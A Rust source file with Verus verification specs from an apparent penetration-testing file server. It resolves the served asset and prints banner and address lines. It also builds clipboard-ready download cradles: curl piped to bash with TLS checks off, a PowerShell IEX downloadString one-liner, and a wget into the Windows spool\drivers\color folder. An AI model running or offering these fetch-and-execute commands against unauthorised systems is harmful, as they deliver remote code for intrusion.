//! The asset resolver, and the lines that tell the user what is served and
//! how to fetch it.

use crate::config::{resolve_aliases, resolved_alias, Config};
use crate::style::{paint, styled, tint_code, Tint};
use crate::text::{decimal, decimal_text, ends_with, has_suffix, to_chars};
use vstd::prelude::*;

verus! {

/// What the path of the asset names.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AssetKind {
    /// A single file.
    File,
    /// A directory.
    Directory,
    /// Neither.
    Missing,
}

/// The asset that is served, resolved once when the server starts.
#[derive(Debug)]
pub struct ResolvedAsset {
    /// The asset as it was named on the command line.
    pub original: String,
    /// The asset after the alias table was applied.
    pub aliased: String,
    /// The path that is served.
    pub path: String,
    /// What the path names.
    pub kind: AssetKind,
}

/// Resolves the asset named on the command line: the alias table is applied
/// to the name, and the resulting path is classified by `classify`.
pub fn resolve_asset<F: FnOnce(&str) -> AssetKind>(
    config: &Config,
    original: &String,
    classify: F,
) -> (asset: ResolvedAsset)
    requires
        forall|path: &str|
            path@ == resolved_alias(config.alias@, original@) ==> call_requires(classify, (path,)),
    ensures
        asset.original@ == original@,
        asset.aliased@ == resolved_alias(config.alias@, original@),
        asset.path@ == asset.aliased@,
        exists|path: &str| path@ == asset.path@ && #[trigger] call_ensures(
            classify,
            (path,),
            asset.kind,
        ),
{
    let aliased = resolve_aliases(config, original).clone();
    let path = aliased.clone();
    let kind = classify(path.as_str());
    ResolvedAsset { original: original.clone(), aliased, path, kind }
}

/// The kind of file that a path names, as far as its ending tells.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AssetCategory {
    /// A shell script: the path ends in `.sh`.
    ShellScript,
    /// A PowerShell script: the path ends in `.ps1`.
    PowerShellScript,
    /// An installer or program for Windows: the path ends in `.exe` or `.msi`.
    Installer,
    /// Anything else.
    Other,
}

/// The category of a path.
pub open spec fn category_of(path: Seq<char>) -> AssetCategory {
    if ends_with(path, ".sh"@) {
        AssetCategory::ShellScript
    } else if ends_with(path, ".ps1"@) {
        AssetCategory::PowerShellScript
    } else if ends_with(path, ".exe"@) || ends_with(path, ".msi"@) {
        AssetCategory::Installer
    } else {
        AssetCategory::Other
    }
}

/// Tells the category of a path by its ending.
pub fn categorize(path: &str) -> (category: AssetCategory)
    ensures
        category == category_of(path@),
{
    let chars = to_chars(path);
    if has_suffix(&chars, &to_chars(".sh")) {
        AssetCategory::ShellScript
    } else if has_suffix(&chars, &to_chars(".ps1")) {
        AssetCategory::PowerShellScript
    } else if has_suffix(&chars, &to_chars(".exe")) || has_suffix(&chars, &to_chars(".msi")) {
        AssetCategory::Installer
    } else {
        AssetCategory::Other
    }
}

/// The one-line command that fetches the served file from `server_addr`, and
/// runs or stores it, for each category.
pub open spec fn download_command_view(
    category: AssetCategory,
    server_addr: Seq<char>,
    file_name: Seq<char>,
) -> Seq<char> {
    match category {
        AssetCategory::ShellScript => "curl -k -s "@ + server_addr + " | bash"@,
        AssetCategory::PowerShellScript => "IEX(New-Object Net.Webclient).downloadString(\""@
            + server_addr + "\")"@,
        AssetCategory::Installer => "wget "@ + server_addr
            + " -O \\Windows\\system32\\spool\\drivers\\color\\"@ + file_name,
        AssetCategory::Other => "wget "@ + server_addr + " -O /tmp/"@ + file_name,
    }
}

/// Writes the command that is offered to the user for the clipboard.
pub fn download_command(category: AssetCategory, server_addr: &str, file_name: &str) -> (command:
    String)
    ensures
        command@ == download_command_view(category, server_addr@, file_name@),
{
    match category {
        AssetCategory::ShellScript => {
            let mut command = "curl -k -s ".to_owned();
            command.append(server_addr);
            command.append(" | bash");
            command
        },
        AssetCategory::PowerShellScript => {
            let mut command = "IEX(New-Object Net.Webclient).downloadString(\"".to_owned();
            command.append(server_addr);
            command.append("\")");
            command
        },
        AssetCategory::Installer => {
            let mut command = "wget ".to_owned();
            command.append(server_addr);
            command.append(" -O \\Windows\\system32\\spool\\drivers\\color\\");
            command.append(file_name);
            command
        },
        AssetCategory::Other => {
            let mut command = "wget ".to_owned();
            command.append(server_addr);
            command.append(" -O /tmp/");
            command.append(file_name);
            command
        },
    }
}

/// The command for a served path: the category is read off its ending.
pub fn suggest_download(asset_path: &str, server_addr: &str, file_name: &str) -> (command: String)
    ensures
        command@ == download_command_view(category_of(asset_path@), server_addr@, file_name@),
{
    download_command(categorize(asset_path), server_addr, file_name)
}

/// The scheme of the server's address.
pub open spec fn scheme(ssl: bool) -> Seq<char> {
    if ssl {
        "https"@
    } else {
        "http"@
    }
}

/// The address under which the server is reached: scheme, the address shown
/// and the port.
pub open spec fn server_address_view(ssl: bool, display_address: Seq<char>, port: u16) -> Seq<char> {
    scheme(ssl) + "://"@ + display_address + ":"@ + decimal(port as nat)
}

/// Writes the address under which the server is reached.
pub fn server_address(ssl: bool, display_address: &str, port: u16) -> (address: String)
    ensures
        address@ == server_address_view(ssl, display_address@, port),
{
    let mut address = if ssl {
        "https".to_owned()
    } else {
        "http".to_owned()
    };
    address.append("://");
    address.append(display_address);
    address.append(":");
    address.append(decimal_text(port).as_str());
    address
}

/// Writes the address that the listener binds: address and port.
pub fn listen_address(resolved_ip: &str, port: u16) -> (address: String)
    ensures
        address@ == resolved_ip@ + ":"@ + decimal(port as nat),
{
    let mut address = resolved_ip.to_owned();
    address.append(":");
    address.append(decimal_text(port).as_str());
    address
}

/// The line that announces what is served and where: the asset in yellow.
pub fn serving_banner(asset: &str, server_addr: &str) -> (line: String)
    ensures
        line@ == "Serving "@ + styled(tint_code(Tint::Yellow), asset@) + " at "@ + server_addr@,
{
    let mut line = "Serving ".to_owned();
    line.append(paint(Tint::Yellow, asset).as_str());
    line.append(" at ");
    line.append(server_addr);
    line
}

/// The line that confirms what was put on the clipboard, in blue.
pub fn copied_notice(copied: &str) -> (line: String)
    ensures
        line@ == "Copied '"@ + styled(tint_code(Tint::Blue), copied@) + "' to clipboard"@,
{
    let mut line = "Copied '".to_owned();
    line.append(paint(Tint::Blue, copied).as_str());
    line.append("' to clipboard");
    line
}

} // verus!
